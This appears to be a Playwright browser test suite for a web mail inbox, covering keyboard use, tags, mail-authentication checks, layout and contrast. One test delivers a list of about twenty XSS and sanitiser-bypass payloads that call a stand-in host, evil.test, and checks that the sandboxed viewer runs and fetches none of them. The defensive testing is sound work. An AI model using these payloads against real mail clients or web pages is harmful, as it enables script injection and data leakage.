/** The inbox as people use it: a real Chromium, by keyboard and mouse, on a phone, a tablet and a desk, with mail that means harm. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import type { MailNames } from '../../src/kit/mail-names.ts';
import { parseZone } from '../../src/net/zone.ts';
import { chained, names as hopNames } from '../kit/arc/chain.ts';
import { type InboxStage, inboxStage, mail } from '../protocols/inbox/stage.ts';
import { tool } from './server.ts';

const chromium = tool('chromium');
const FLAGS =
  '--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync';
const MANY = 50_000;
const PARSED = /^(?:Executing inline event handler|Setting the document's base URI)/;

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==';

/** A message of HTML, with an image inside it. */
function html(content: string, fields: Readonly<Record<string, string>> = {}): string {
  const body = [
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    content,
    '--b',
    'Content-Type: image/png',
    'Content-ID: <logo@x>',
    'Content-Transfer-Encoding: base64',
    '',
    PIXEL,
    '--b--',
    '',
  ].join('\r\n');
  return mail({ 'MIME-Version': '1.0', 'Content-Type': 'multipart/related; boundary=b', ...fields }, body);
}

/** trust.md HT-31, and the ways that a cleaner has been tricked before. */
const HARM: readonly string[] = [
  '<svg/onload=fetch("https://evil.test/1")>',
  '<img src=x onerror=fetch("https://evil.test/2")>',
  '<a href="javascript:fetch(\'https://evil.test/3\')">x</a>',
  '<iframe src="data:text/html,<script>fetch(\'https://evil.test/4\')</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/5">',
  '<base href="https://evil.test/6/"><img src="pixel.gif">',
  '<form action="https://evil.test/7"><button autofocus>x</button></form>',
  '<iframe srcdoc="<script>fetch(\'https://evil.test/8\')</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(\'https://evil.test/9\')&gt;">',
  '<svg></p><style><g title="</style><img src=https://evil.test/10 onerror=alert(1)>">',
  '<svg><filter><feImage href="https://evil.test/11"/></filter><image href="https://evil.test/12"/><use href="https://evil.test/13#x"/></svg>',
  '<style>@import "https://evil.test/14"; body{background:url(https://evil.test/15)} @font-face{font-family:f;src:url("https://evil.test/16")}</style>',
  '<div style="background:url(//evil.test/17);list-style:url(\'https://evil.test/18\')">x</div>',
  '<link rel=stylesheet href="https://evil.test/19"><link rel=prefetch href="https://evil.test/20">',
  '<img srcset="https://evil.test/21 2x" src="https://evil.test/22"><picture><source srcset="https://evil.test/23"></picture>',
  '<video poster="https://evil.test/24" src="https://evil.test/25" autoplay></video><audio src="https://evil.test/26" autoplay></audio>',
  '<object data="https://evil.test/27"></object><embed src="https://evil.test/28">',
  '<table background="https://evil.test/29"><td background="//evil.test/30">x</table>',
  '<style>b{background:image-set("https://evil.test/31" 1x)} i{background:\\75rl(https://evil.test/32)} a{cursor:url(https://evil.test/33),auto}</style>',
  '<script src="https://evil.test/34"></script><script>top.location="https://evil.test/35"</script>',
  '<noscript><p title="</noscript><img src=x onerror=fetch(\'https://evil.test/36\')>"></noscript>',
  '<style>:root{--x:url(https://evil.test/37)} p{background:var(--x)}</style><p style="--y:url(https://evil.test/38);background:var(--y)">x</p>',
];

const HOPS = hopNames();
const ZONE = parseZone(
  'x.test TXT "v=spf1 ip4:198.51.100.0/24 -all"\n_dmarc.x.test TXT "v=DMARC1; p=reject"\n',
  'zone',
);
const NAMES: MailNames = {
  ...ZONE,
  txt: async (name) => (name.includes('.hop') ? HOPS.txt(name) : ZONE.txt(name)),
};

describe('the inbox in Chromium', { skip: chromium === undefined && 'chromium is not installed' }, () => {
  let stage: InboxStage;
  let browser: BrowserContext;
  let place: string;
  let url: string;
  /** Requests to anybody else, policies that were broken, errors of the script: none, ever. */
  const wrong: string[] = [];

  const open = async (width = 1440, path = ''): Promise<Page> => {
    const page = await browser.newPage();
    page.setDefaultTimeout(10_000);
    await page.setViewportSize({ width, height: 900 });
    page.on('console', (message) => {
      // The cleaner parses harm in a document that runs nothing; Chromium tells that it would not have run it here either.
      if (!PARSED.test(message.text())) wrong.push(`console: ${message.text()}`);
    });
    page.on('pageerror', (error) => wrong.push(`script: ${error.message}`));
    page.on('request', (request) => {
      if (!request.url().startsWith(url) && !/^(?:data|about):/.test(request.url()))
        wrong.push(`request: ${request.url()}`);
    });
    await page.goto(url + path);
    return page;
  };
  const subjects = (page: Page): Promise<string[]> => page.locator('.row .subject').allInnerTexts();
  const row = (page: Page, subject: string) => page.getByRole('button', { name: new RegExp(subject) });

  before(async () => {
    place = mkdtempSync(join(tmpdir(), 'cs-inbox-'));
    stage = await inboxStage({ messages: MANY + 1000, names: NAMES });
    url = `http://127.0.0.1:${stage.door.port}/`;
    const { chromium: engine } = await import('playwright-core');
    browser = await engine.launchPersistentContext(join(place, 'profile'), {
      ...(chromium === undefined ? {} : { executablePath: chromium }),
      headless: true,
      args: FLAGS.split(' '),
      timezoneId: 'UTC',
      locale: 'en-GB',
    });
  });
  after(async () => {
    await browser.close();
    await stage[Symbol.asyncDispose]();
    rmSync(place, { recursive: true });
    assert.deepEqual(wrong, []);
  });

  test('nothing yet says what to do; mail shows the moment it arrives, within 100 ms', async () => {
    const page = await open();
    await page.getByText('No mail yet').waitFor();
    await page.locator('.pulse.live').waitFor();
    const times: number[] = [];
    for (let at = 0; at < 10; at++) {
      await page.evaluate(
        `void (window.seen = new Promise((resolve) => new MutationObserver((_, observer) => {
          if (!document.body.innerText.includes('arrival ${at};')) return;
          observer.disconnect();
          resolve(Date.now());
        }).observe(document.body, { subtree: true, childList: true, characterData: true })))`,
      );
      const stored = Date.now();
      await stage.deliver(mail({ Subject: `arrival ${at};` }));
      times.push(((await page.evaluate('window.seen')) as number) - stored);
    }
    assert.equal((await subjects(page))[0], 'arrival 9;');
    const again = await open();
    await again.locator('.row .snippet', { hasText: 'hello' }).nth(9).waitFor();
    await again.close();
    // Others share this machine: the best of ten is what the page can do.
    assert.ok(Math.min(...times) < 100, `arrival to screen: ${times.join(' ')} ms`);
    assert.match(await page.title(), /^\(10\) Inbox$/);
    await page.close();
  });

  test('keyboard: next, previous, star, unread, select, delete, search, help', async () => {
    const page = await open();
    await row(page, 'arrival 9;').waitFor();
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'arrival 9;' }).waitFor();
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'arrival 8;' }).waitFor();
    await page.keyboard.press('k');
    await page.getByRole('heading', { name: 'arrival 9;' }).waitFor();
    await page.keyboard.press('s');
    await page.locator('.row.opened .star').waitFor();
    await page.keyboard.press('u');
    await page.locator('.row.opened.unseen').waitFor();
    await page.keyboard.press('#');
    await page.getByRole('heading', { name: 'arrival 8;' }).waitFor();
    assert.equal((await subjects(page)).includes('arrival 9;'), false);
    await page.keyboard.press('/');
    await page.keyboard.type('subject:"arrival 3"');
    await page.getByText('1 of 9 messages').waitFor();
    assert.deepEqual(await subjects(page), ['arrival 3;']);
    await page.keyboard.press('Escape');
    await page.getByText('9 messages, ').waitFor();
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keys' }).waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('*');
    await page.getByText('9 messages selected').waitFor();
    await page.keyboard.press('#');
    await page.getByText('No mail yet').waitFor();
    await page.close();
  });

  test('HT-31 mail that means harm runs nothing and asks for nothing', async () => {
    for (const [at, harm] of HARM.entries()) {
      await stage.deliver(
        html(`<p id="safe">safe ${at}</p>${harm}`, {
          Subject: `<b>harm ${at};</b>`,
          From: `"<img src=x onerror=alert(1)>" <a@x.test>`,
        }),
      );
    }
    const page = await open();
    await row(page, `harm ${HARM.length - 1};`).waitFor();
    for (let at = HARM.length - 1; at >= 0; at--) {
      await page.keyboard.press(at === HARM.length - 1 ? 'Home' : 'j');
      await page.getByRole('heading', { name: `<b>harm ${at};</b>` }).waitFor();
      const frame = page.frameLocator('iframe[title=Message]');
      await frame.getByText(`safe ${at}`, { exact: true }).waitFor();
    }
    const sandbox = await page.locator('iframe[title=Message]').getAttribute('sandbox');
    assert.equal(sandbox, 'allow-popups allow-popups-to-escape-sandbox');
    assert.deepEqual(wrong, []);
    await page.close();
  });

  test('cid images are shown; what is remote is counted, blocked, and asked for only when somebody wants it', async () => {
    const asked: string[] = [];
    await stage.deliver(
      html('<img id=in src="cid:logo@x"><img src="https://pictures.test/a.png"><p>both</p>', { Subject: 'pictures' }),
    );
    const page = await open();
    await browser.route('https://pictures.test/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'image/png', body: Buffer.from(PIXEL, 'base64') });
    });
    await row(page, 'pictures').click();
    const frame = page.frameLocator('iframe[title=Message]');
    await frame.getByText('both').waitFor();
    const width = await frame.locator('#in').evaluate(async (node) => {
      const picture = node as unknown as { decode(): Promise<void>; readonly naturalWidth: number };
      await picture.decode();
      return picture.naturalWidth;
    });
    assert.equal(width, 5);
    assert.deepEqual(asked, []);
    await page.getByRole('button', { name: '1 remote item blocked. Show' }).click();
    await page.getByRole('button', { name: 'Remote content is shown' }).waitFor();
    await page.waitForResponse('https://pictures.test/a.png').catch(() => {});
    assert.deepEqual(asked, ['https://pictures.test/a.png']);
    const own = wrong.splice(0);
    assert.deepEqual(own, ['request: https://pictures.test/a.png']);
    await browser.unrouteAll();
    await page.close();
  });

  test('tabs by arrow keys; the source is the message; a part is one click away', async () => {
    const page = await open();
    await row(page, 'pictures').click();
    await page.getByRole('tab', { name: 'HTML' }).focus();
    await page.keyboard.press('ArrowRight');
    assert.equal(await page.getByRole('tab', { name: 'Headers' }).getAttribute('aria-selected'), 'true');
    await page.getByRole('tabpanel').getByText('multipart/related').waitFor();
    await page.keyboard.press('ArrowRight');
    await page.getByRole('tabpanel').getByText('Content-ID: <logo@x>').waitFor();
    await page.keyboard.press('ArrowRight');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page
        .getByRole('tabpanel')
        .getByRole('link', { name: /image\/png/ })
        .click(),
    ]);
    assert.equal(await download.failure(), null);
    await page.close();
  });

  test('compose, reply and an inbox of one address', async () => {
    const page = await open();
    await row(page, 'pictures').waitFor();
    await page.keyboard.press('c');
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('From').fill('ann@x.test');
    await dialog.getByLabel('To').fill('zoe@x.test');
    await dialog.getByLabel('Subject').fill('written here;');
    await dialog.getByLabel('Text').fill('one\ntwo');
    await dialog.getByRole('button', { name: 'Send' }).click();
    await page
      .getByRole('alert')
      .getByText(/^Delivered as message/)
      .waitFor();
    await row(page, '^ann@x.test, written here;').click();
    await page.getByRole('tabpanel').getByText('two').waitFor();
    await page.keyboard.press('r');
    assert.equal(await dialog.getByLabel('To').inputValue(), 'ann@x.test');
    assert.equal(await dialog.getByLabel('Subject').inputValue(), 'Re: written here;');
    assert.match(await dialog.getByLabel('Text').inputValue(), /> one\n> two/);
    await page.keyboard.press('Escape');
    await page.getByRole('combobox', { name: 'Inbox' }).selectOption('zoe@x.test');
    await page.getByText('1 message, ').waitFor();
    // Rows are there before their words are.
    await row(page, 'written here;').waitFor();
    assert.deepEqual(await subjects(page), ['written here;']);
    await row(page, 'written here;').click();
    await page.getByRole('tab', { name: 'Checks' }).click();
    await page.getByRole('heading', { name: 'Links' }).waitFor();
    await page.keyboard.press('#');
    await page.getByText('No mail yet').waitFor();
    await page.close();
  });

  test('tags: given and taken by keyboard, for several at once, on a phone; they filter', async () => {
    for (const name of ['one', 'two', 'three']) await stage.deliver(mail({ Subject: `tagged ${name};` }));
    const page = await open();
    await row(page, 'tagged three;').click();
    await page.getByRole('heading', { name: 'tagged three;' }).waitFor();
    await page.keyboard.press('t');
    const sheet = page.getByRole('dialog', { name: 'Tags of 1 message' });
    await sheet.getByLabel('New tag').fill('to do');
    await page.keyboard.press('Enter');
    await sheet.getByRole('button', { name: 'to do', pressed: true }).waitFor();
    await page.keyboard.press('Enter');
    await sheet.waitFor({ state: 'hidden' });
    await page.locator('.reader').getByRole('button', { name: 'to do' }).waitFor();
    await page.keyboard.press('x');
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'tagged two;' }).waitFor();
    await page.keyboard.press('x');
    await page.getByText('2 messages selected').waitFor();
    await page.getByRole('toolbar', { name: 'Selected messages' }).getByRole('button', { name: 'Tags' }).click();
    const both = page.getByRole('dialog', { name: 'Tags of 2 messages' });
    const toggle = both.getByRole('button', { name: 'to do' });
    assert.equal(await toggle.getAttribute('aria-pressed'), 'mixed');
    await toggle.click();
    await both.getByRole('button', { name: 'to do', pressed: true }).waitFor();
    await both.getByRole('button', { name: 'Done' }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('combobox', { name: 'Inbox' }).selectOption({ label: 'to do (2)' });
    await page.getByText('2 of ').waitFor();
    assert.deepEqual(await subjects(page), ['tagged three;', 'tagged two;']);
    assert.equal(await page.getByRole('searchbox').inputValue(), 'tag:"to do"');
    await page.getByRole('combobox', { name: 'Inbox' }).selectOption('');
    await row(page, 'tagged one;').waitFor();
    await page.close();

    const phone = await open(390);
    await row(phone, 'tagged two;').click();
    await phone.locator('.reader').getByRole('button', { name: 'to do' }).click();
    await phone.getByText('2 of ').waitFor();
    await row(phone, 'tagged two;').click();
    await phone.locator('.reader').getByRole('button', { name: 'Edit tags' }).click();
    const small = phone.getByRole('dialog', { name: 'Tags of 1 message' });
    await small.getByRole('button', { name: 'to do' }).click();
    await small.getByRole('button', { name: 'Done' }).click();
    await phone.getByRole('button', { name: 'Back to the list' }).click();
    await phone.getByText('1 of ').waitFor();
    assert.deepEqual(await subjects(phone), ['tagged three;']);
    await phone.close();
  });

  test('how a message came: the client and every line of the conversation', async () => {
    const transcript = () => '# c1 from 192.0.2.7\nC: EHLO client.test\nS: 250 HELP\nC: .\nS: 250 ok, stored as ';
    const session = {
      server: 'smtp',
      conn: 'c1',
      with: 'ESMTP',
      helo: 'client.test',
      address: '192.0.2.7',
      user: undefined,
      secure: false,
    };
    const id = await stage.deliver(mail({ Subject: 'delivered;' }), { session: { ...session, transcript } });
    const page = await open();
    await row(page, 'delivered;').click();
    await page.getByRole('tab', { name: 'Delivery' }).click();
    await page.getByRole('tabpanel').getByText('192.0.2.7', { exact: true }).waitFor();
    assert.deepEqual(await page.getByRole('list', { name: 'Transcript' }).getByRole('listitem').allInnerTexts(), [
      '# c1 from 192.0.2.7',
      'C: EHLO client.test',
      'S: 250 HELP',
      'C: .',
      `S: 250 ok, stored as ${id}`,
    ]);
    await page.close();
  });

  test('the sender: what SPF, DKIM, DMARC and ARC say, and why, fits every screen', async () => {
    const session = {
      ...{ server: 'smtp', conn: 'c1', with: 'ESMTP', helo: 'mx.y.test', address: '192.0.2.7', user: undefined },
      secure: false,
    };
    const fields = {
      'DKIM-Signature': 'v=1; a=rsa-sha256; d=x.test; s=s; h=from; bh=AAAA; b=AAAA',
      Subject: 'who sent it;',
      'List-Unsubscribe': '<https://x.test/u>',
    };
    const forwarded = await chained(2, Buffer.from(mail(fields)));
    await stage.deliver(forwarded, { session, from: 'ann@x.test' });
    for (const width of [390, 1440]) {
      for (const colorScheme of ['light', 'dark'] as const) {
        const page = await open(width);
        await page.emulateMedia({ colorScheme });
        await row(page, 'who sent it;').click();
        await page.getByRole('tab', { name: 'Checks' }).click();
        const sender = page.getByRole('region', { name: 'Sender' });
        for (const words of [
          /^SPF fail x\.test from 192\.0\.2\.7$/,
          /^DKIM permerror x\.test, key s.*bh= is no SHA-256$/s,
          /^DMARC fail x\.test.*its owner asks for: reject$/s,
          /^ARC pass 2 servers, unchanged on the way$/,
          /^ARC 1 hop1\.test: hop1\.test; spf=pass$/,
        ]) {
          await sender.getByRole('listitem').filter({ hasText: words }).waitFor();
        }
        await page.getByRole('region', { name: 'Unsubscribing' }).getByText('Not by one click').waitFor();
        assert.ok(Number(await page.evaluate('document.documentElement.scrollWidth')) <= width);
        assert.deepEqual(await faint(page), []);
        await page.close();
      }
    }
  });

  test('phone, tablet, desktop, light and dark: nothing wider than the screen, targets tall enough, text that can be read', async () => {
    for (const width of [390, 820, 1440]) {
      for (const colorScheme of ['light', 'dark'] as const) {
        const page = await open(width);
        await page.emulateMedia({ colorScheme });
        await row(page, 'pictures').waitFor();
        const look = async (where: string): Promise<void> => {
          assert.ok(Number(await page.evaluate('document.documentElement.scrollWidth')) <= width, `${where} ${width}`);
          const heights = (await page.evaluate(
            "[...document.querySelectorAll('button, a, input')].filter((each) => each.offsetParent && !each.matches('.face')).map((each) => each.getBoundingClientRect().height)",
          )) as number[];
          assert.ok(Math.min(...heights) >= 40, `${where} ${width}: ${Math.min(...heights)}`);
          assert.deepEqual(await faint(page), [], `${where} ${width} ${colorScheme}`);
        };
        await look('list');
        await row(page, 'pictures').click();
        await page.getByRole('tab', { name: 'HTML' }).waitFor();
        await look('reader');
        await page.getByRole('tab', { name: 'Delivery' }).click();
        await page.getByText('Nobody noted').waitFor();
        await look('delivery');
        if (width === 390) {
          await page.getByRole('button', { name: 'Back to the list' }).click();
          await row(page, 'pictures').waitFor();
        }
        await page.close();
      }
    }
  });

  test(`${MANY} messages: few elements, the oldest one key away, arrivals as quick as ever`, async () => {
    for (let at = 0; at < MANY; at++) await stage.deliver(mail({ Subject: `many ${at};` }));
    const page = await open();
    await row(page, `many ${MANY - 1};`).waitFor();
    assert.ok((await page.locator('.row').count()) < 60);
    await page.keyboard.press('End');
    await row(page, 'harm 0;').waitFor();
    await page.keyboard.press('Home');
    await page.getByRole('heading', { name: `many ${MANY - 1};` }).waitFor();
    await page.locator('.list').evaluate((node) => ((node as unknown as { scrollTop: number }).scrollTop = 2_000_000));
    await row(page, `many ${MANY - Math.round(2_000_000 / 84) - 3};`).waitFor();
    await page.locator('.list').evaluate((node) => ((node as unknown as { scrollTop: number }).scrollTop = 0));
    await stage.deliver(mail({ Subject: 'after all;' }));
    await row(page, 'after all;').waitFor();
    await page.close();
  });
});

/** Texts whose contrast to what is behind them is below 4.5 (WCAG 2.2, 1.4.3). */
function faint(page: Page): Promise<string[]> {
  return page.evaluate(`(() => {
    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
    const channels = (color, under = [255, 255, 255]) => {
      canvas.fillStyle = 'rgb(' + under.join() + ')';
      canvas.fillRect(0, 0, 1, 1);
      canvas.fillStyle = color;
      canvas.fillRect(0, 0, 1, 1);
      return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
    };
    const light = (rgb) => rgb.map((c) => c / 255).map((c) => c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
      .reduce((sum, c, at) => sum + c * [0.2126, 0.7152, 0.0722][at], 0);
    const behind = (node) => {
      const layers = [];
      for (let at = node; at; at = at.parentElement) layers.unshift(getComputedStyle(at).backgroundColor);
      return layers.reduce((under, color) => channels(color, under), [255, 255, 255]);
    };
    const texts = [...document.querySelectorAll('body *')].filter((node) => node.offsetParent && !node.closest('.hidden, svg, iframe') &&
      [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim() !== ''));
    return texts.flatMap((node) => {
      const under = behind(node);
      const [a, b] = [light(channels(getComputedStyle(node).color, under)), light(under)].sort((x, y) => y - x);
      const ratio = (a + 0.05) / (b + 0.05);
      return ratio < 4.5 ? [node.className + ' ' + node.textContent.slice(0, 30) + ': ' + ratio.toFixed(2)] : [];
    });
  })()`) as Promise<string[]>;
}
